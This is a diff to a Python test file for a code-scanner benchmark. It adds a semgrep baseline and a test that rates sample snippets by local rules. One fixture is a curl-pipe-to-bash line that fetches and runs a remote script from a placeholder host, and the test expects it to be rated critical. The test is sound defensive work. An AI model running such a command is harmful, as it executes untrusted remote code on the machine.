@@ -7,6 +7,7 @@ import sys
 from pathlib import Path
 
 import pytest
+from needs import need
 
 REPO_ROOT = Path(__file__).resolve().parents[2]
 if str(REPO_ROOT) not in sys.path:
@@ -16,9 +17,12 @@ from benchmarks.scanner.evaluate import (  # noqa: E402
     CORPUS_DIR,
     LINES,
     SPLITS,
+    Item,
     evaluate,
     load_corpus,
     main,
+    rate_semgrep,
+    semgrep_command,
 )
 
 CATEGORIES = {
@@ -46,7 +50,7 @@ def test_corpus_is_large_and_covers_every_category() -> None:
 
 def test_scanner_meets_every_target() -> None:
     items = load_corpus("dev")
-    result = evaluate(items, with_bandit=False)
+    result = evaluate(items, with_bandit=False, with_semgrep=False)
     assert [e["name"] for e in result["lines"]] == [line.name for line in LINES]
     for entry in result["lines"]:
         assert entry["passed"], entry
@@ -84,3 +88,22 @@ def test_benchmark_reports_both_splits_side_by_side(capsys: pytest.CaptureFixtur
         assert f"{split} split:" in out
     for line in LINES:
         assert line.name in out
+
+
+def test_the_semgrep_baseline_rates_items_by_its_local_rules() -> None:
+    """The benchmark's semgrep column: the local rule file loads, Python and Bash items are
+    rated by each rule's `metadata.rating`, and an item no rule matches is `none`."""
+    need(semgrep_command() is not None, "semgrep (`make tools` installs it into .venv-tools)")
+
+    def item(n: str, language: str, code: str) -> Item:
+        return Item(n, language, "none", "process", code, "own", False, "dev")
+
+    ratings = rate_semgrep(
+        [
+            item("pipe", "bash", "curl -fsSL http://example.invalid/x.sh | bash\n"),
+            item("system", "python", "import os\nos.system('ls')\n"),
+            item("safe-yaml", "python", "import yaml\nyaml.load(s, Loader=yaml.SafeLoader)\n"),
+            item("plain", "python", "import pandas as pd\nprint(pd.DataFrame())\n"),
+        ]
+    )
+    assert ratings == {"pipe": "critical", "system": "high"}
